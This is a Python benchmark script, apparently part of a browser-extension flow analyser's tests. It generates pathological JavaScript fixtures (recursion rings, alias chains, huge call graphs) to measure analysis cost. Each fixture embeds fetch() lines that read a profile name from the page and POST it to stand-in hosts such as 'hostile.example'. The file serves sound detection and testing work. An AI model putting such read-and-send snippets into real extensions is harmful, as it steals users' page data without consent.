"""Time and steps of the flow engine on code made to overwhelm it, at sizes n, 2n and 4n.

`python -m tests.benchmarks.flow_hostile` prints a table; the README beside this file keeps the figures. Each shape has
a flow of an ordinary kind beside the hostile part: it has to be found whatever the rest costs.
"""

import argparse
import time
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from math import isqrt
from random import Random
from typing import Final, NamedTuple
from unittest.mock import patch

from rich.console import Console
from rich.table import Table

from skimtrace.extension.load import load_extension
from skimtrace.flow import analyse
from skimtrace.flow.model import Analysis
from skimtrace.flow.resolve import Resolver
from skimtrace.flow.taint import Taint
from tests.extension.made import bundle_of
from tests.flow.made import with_manifest

READ: Final = 'document.querySelector(".pv-top-card__name").textContent'
HOST: Final = "true.example"
TRUE: Final = f'\nfetch("https://{HOST}/in", {{method: "POST", body: {READ}}});\n'
"""The ordinary flow."""


def _sent(value: str, host: str = "hostile.example") -> str:
    return f'fetch("https://{host}/in", {{method: "POST", body: {value}}});\n'


def _lines(n: int, line: Callable[[int], str]) -> str:
    return "\n".join(map(line, range(n))) + "\n"


def _handlers(n: int) -> dict[str, str]:
    """Many handlers of one kind of message."""
    listen = "chrome.runtime.onMessage.addListener(m => {{ if (m.type === 'save') {} }});"
    return {
        "content.js": f"chrome.runtime.sendMessage({{type: 'save', name: {READ}}});" + TRUE,
        "background.js": _lines(n, lambda i: listen.format(f"fetch('https://h{i % 7}.example/', {{body: m.name}});")),
    }


def _senders(n: int) -> dict[str, str]:
    """Many handlers, and as many messages of one kind."""
    return {
        "content.js": _lines(n, lambda i: f"chrome.runtime.sendMessage({{type: 'k', at: {i}, name: {READ}}});") + TRUE,
        "background.js": _lines(
            n, lambda i: f"chrome.runtime.onMessage.addListener(m => {{ if (m.type === 'k') use{i}(m.name); }});"
        ),
    }


def _aliases(n: int) -> dict[str, str]:
    """A chain of variables, each given the one before."""
    chain = f"var a0 = {READ};\n" + _lines(n, lambda i: f"var a{i + 1} = a{i};")
    return {"content.js": f"(() => {{ {chain} {_sent(f'a{n}')} }})();" + TRUE}


def _object_aliases(n: int) -> dict[str, str]:
    """A chain of variables that are one object; the first is stored into, the last is read."""
    chain = "var a0 = {};\n" + _lines(n, lambda i: f"var a{i + 1} = a{i};")
    return {"content.js": f"(() => {{ {chain} a0.name = {READ}; {_sent(f'a{n}.name')} }})();" + TRUE}


def _recursion(n: int) -> dict[str, str]:
    """Functions that call one another in a ring."""
    ring = _lines(n, lambda i: f"function f{i}(x) {{ return x ? f{(i + 1) % n}(x) : f{(i * 7 + 3) % n}(x); }}")
    return {"content.js": ring + _sent(f"f0({READ})") + TRUE}


def _itself(n: int) -> dict[str, str]:
    """Objects that hold themselves and one another."""
    knot = _lines(n, lambda i: f"o{i}.self = o{i}; o{i}.next = o{(i + 1) % n}; o{i}.back = o{(i * 5 + 2) % n};")
    made = "const " + ", ".join(f"o{i} = {{}}" for i in range(n)) + ";\n"
    return {"content.js": f"{made}{knot}o0.name = {READ};\n{_sent('o0.self.self.self.name')}{TRUE}"}


def _properties(n: int) -> dict[str, str]:
    """An object with very many properties."""
    literal = "const table = {" + ", ".join(f"p{i}: {i}" for i in range(n)) + f", name: {READ}}};\n"
    return {"content.js": literal + _lines(n // 10, lambda i: f"table.q{i} = table.p{i};") + _sent("table.name") + TRUE}


def _switch(n: int) -> dict[str, str]:
    """A handler that switches over very many kinds of messages."""
    cases = _lines(n, lambda i: f"case 'k{i}': fetch('https://h{i % 7}.example/', {{body: m.name}}); break;")
    return {
        "content.js": f"chrome.runtime.sendMessage({{type: 'k{n // 2}', name: {READ}}});" + TRUE,
        "background.js": f"chrome.runtime.onMessage.addListener(m => {{ switch (m.type) {{\n{cases}}} }});",
    }


def _callbacks(n: int) -> dict[str, str]:
    """Very many callbacks handed to one function that calls each."""
    given = _lines(n, lambda i: f"each(x => {{ use{i}(x); }});")
    return {"content.js": f"function each(f) {{ f({READ}); }}\n{given}each(x => {{ {_sent('x')} }});{TRUE}"}


def _promises(n: int) -> dict[str, str]:
    """A long chain of promises."""
    return {"content.js": f"Promise.resolve({READ})" + ".then(x => x)" * n + f".then(x => {{ {_sent('x')} }});" + TRUE}


def _text(n: int) -> dict[str, str]:
    """Text of very many parts."""
    parts = " + ".join(f"v{i}" for i in range(n))
    declared = "let " + ", ".join(f"v{i} = 'x{i}'" for i in range(n)) + ";\n"
    return {"content.js": f"{declared}v0 = {READ};\n{_sent(parts)}fetch('https://h.example/' + {parts});{TRUE}"}


def _templates(n: int) -> dict[str, str]:
    """Text that doubles: each constant is twice the one before."""
    doubled = _lines(n, lambda i: f"const t{i + 1} = `${{t{i}}}${{t{i}}}`;")
    return {"content.js": f"const t0 = 'https://h.example/';\n{doubled}fetch(t{n}, {{body: {READ}}});{TRUE}"}


def _choices(n: int) -> dict[str, str]:
    """An address of very many parts with two values each."""
    parts = " + ".join(f"(c{i} ? 'a{i}' : 'b{i}')" for i in range(n))
    return {"content.js": f"fetch('https://h.example/' + {parts}, {{body: {READ}}});{TRUE}"}


def _fields(n: int) -> dict[str, str]:
    """Data stored under very many names in one object, all of it sent on by functions that pass it round."""
    stores = _lines(n, lambda i: f"o.f{i} = {READ}; pass{i % 50}(o);")
    passing = _lines(50, lambda i: f"function pass{i}(x) {{ x.g{i} = x; return pass{(i + 1) % 50}(x); }}")
    return {"content.js": f"const o = {{}};\n{passing}{stores}{_sent('JSON.stringify(o)')}{TRUE}"}


def _graph(calls: Iterable[Sequence[int]]) -> dict[str, str]:
    """A call graph: each function hands its parameter to others, and returns it, or what one of them returns."""
    made = "".join(
        f"function f{i}(x) {{ return {' || '.join([*(f'f{j}(x)' for j in called), 'x'])}; }}\n"
        for i, called in enumerate(calls)
    )
    return {"content.js": made + _sent(f"f0({READ})") + TRUE}


def _random_graph(n: int) -> dict[str, str]:
    """Functions each of which calls three others, drawn by lot."""
    draw = Random(n)
    return _graph([draw.randrange(n) for _ in range(3)] for _ in range(n))


def _layered_graph(n: int) -> dict[str, str]:
    """Layers of ten functions, each of which calls all ten of the next layer: there are ten to the n / 10 ways."""
    return _graph(range(start, min(start + 10, n)) for start in (i // 10 * 10 + 10 for i in range(n)))


def _complete_graph(n: int) -> dict[str, str]:
    """So many functions that all call one another that there are n calls."""
    return _graph(range(isqrt(n)) for _ in range(isqrt(n)))


def _nested_calls(n: int) -> dict[str, str]:
    """A call in a call in a call."""
    return {"content.js": f"function f(x) {{ return x; }}\n{_sent('f(' * n + READ + ')' * n)}{TRUE}"}


def _nested_functions(n: int) -> dict[str, str]:
    """A function in a function in a function, each called at once; the data is read outermost and sent innermost."""
    return {"content.js": f"const name = {READ};\n" + "(() => {\n" * n + _sent("name") + "})();" * n + TRUE}


def _nested_conditions(n: int) -> dict[str, str]:
    """Conditions inside each other, and an address that each may change."""
    return {
        "content.js": "let at = 'https://hostile.example/', o = {};\n"
        + "".join(f"if (o.c{i}) {{ at += 'x{i}';\n" for i in range(n))
        + f"fetch(at, {{body: {READ}}});\n"
        + "}" * n
        + TRUE
    }


class Shape(NamedTuple):
    """A hostile shape: what makes it, and the size that the tests give it."""

    make: Callable[[int], Mapping[str, str]]
    size: int


SHAPES: Final[Mapping[str, Shape]] = {
    "handlers of one message": Shape(_handlers, 10_000),
    "handlers and messages of one kind": Shape(_senders, 1_000),
    "aliases": Shape(_aliases, 10_000),
    "aliases of an object": Shape(_object_aliases, 10_000),
    "mutual recursion": Shape(_recursion, 5_000),
    "objects that hold themselves": Shape(_itself, 2_000),
    "properties": Shape(_properties, 100_000),
    "cases of a switch": Shape(_switch, 10_000),
    "callbacks of one function": Shape(_callbacks, 5_000),
    "promises": Shape(_promises, 10_000),
    "parts of a text": Shape(_text, 10_000),
    "text that doubles": Shape(_templates, 1_000),
    "choices in an address": Shape(_choices, 2_000),
    "fields that are passed round": Shape(_fields, 1_000),
    "calls in calls": Shape(_nested_calls, 10_000),
    "functions in functions": Shape(_nested_functions, 2_000),
    "conditions in conditions": Shape(_nested_conditions, 5_000),
    "random call graph": Shape(_random_graph, 5_000),
    "layered call graph": Shape(_layered_graph, 2_000),
    "complete call graph": Shape(_complete_graph, 10_000),
}


class Run(NamedTuple):
    """One analysis: what was found, what it cost, and whether a budget stopped it."""

    analysis: Analysis
    seconds: float
    steps: int
    """Of the questions about what variables and calls mean."""
    facts: int
    edges: int

    @property
    def sent_to(self) -> set[str | None]:
        """The hosts that something flows to."""
        return {flow.endpoint.host for flow in self.analysis.flows if flow.endpoint is not None}


def run(files: Mapping[str, str]) -> Run:
    """Analyse an extension of these files and count."""
    bundle = bundle_of(with_manifest(files))
    extension = load_extension(bundle)
    made: list[Resolver | Taint] = []

    class Counted(Resolver):
        def __init__(self, *args: object) -> None:
            super().__init__(*args)  # type: ignore[arg-type]  # handed on as they are
            made.append(self)

    class CountedTaint(Taint):
        def __init__(self, *args: object) -> None:
            super().__init__(*args)  # type: ignore[arg-type]  # handed on as they are
            made.append(self)

        def close(self) -> None:
            """Keep what is counted below."""

    started = time.process_time()
    with patch.object(analyse, "Resolver", Counted), patch.object(analyse, "Taint", CountedTaint):
        analysis = analyse.analyse(bundle, extension)
    seconds = time.process_time() - started
    steps = sum(each.steps for each in made if isinstance(each, Resolver))
    taints = [each for each in made if isinstance(each, Taint)]
    facts = sum(len(taint.labels) for taint in taints)
    return Run(analysis, seconds, steps, facts, sum(len(known) for taint in taints for known in taint.edges.values()))


def measure(names: list[str], scale: int) -> Iterator[tuple[str, int, Run]]:
    """Run shapes at a `scale`-th of their size, at twice and at four times that."""
    for name in names:
        for factor in (1, 2, 4):
            size = max(SHAPES[name].size * factor // scale, 1)
            yield name, size, run(SHAPES[name].make(size))


def main(arguments: list[str] | None = None) -> None:
    """Measure and print."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--shapes", nargs="+", default=list(SHAPES), choices=list(SHAPES), metavar="NAME")
    parser.add_argument("--scale", type=int, default=4, help="begin at this part of each shape's size")
    options = parser.parse_args(arguments)
    table = Table("shape", "n", "s", "growth", "steps", "facts", "edges", "limits", "found")
    before = 0.0
    for name, size, one in measure(options.shapes, options.scale):
        first = size == max(SHAPES[name].size // options.scale, 1)
        growth = "" if first else f"{one.seconds / before:.1f}"
        before = max(one.seconds, 0.001)
        table.add_row(
            name if first else "", f"{size:,}", f"{one.seconds:.2f}", growth, f"{one.steps:,}", f"{one.facts:,}",
            f"{one.edges:,}", str(len(one.analysis.limits)), "yes" if HOST in one.sent_to else "NO",
        )  # fmt: skip
    Console(width=120).print(table)


if __name__ == "__main__":
    main()
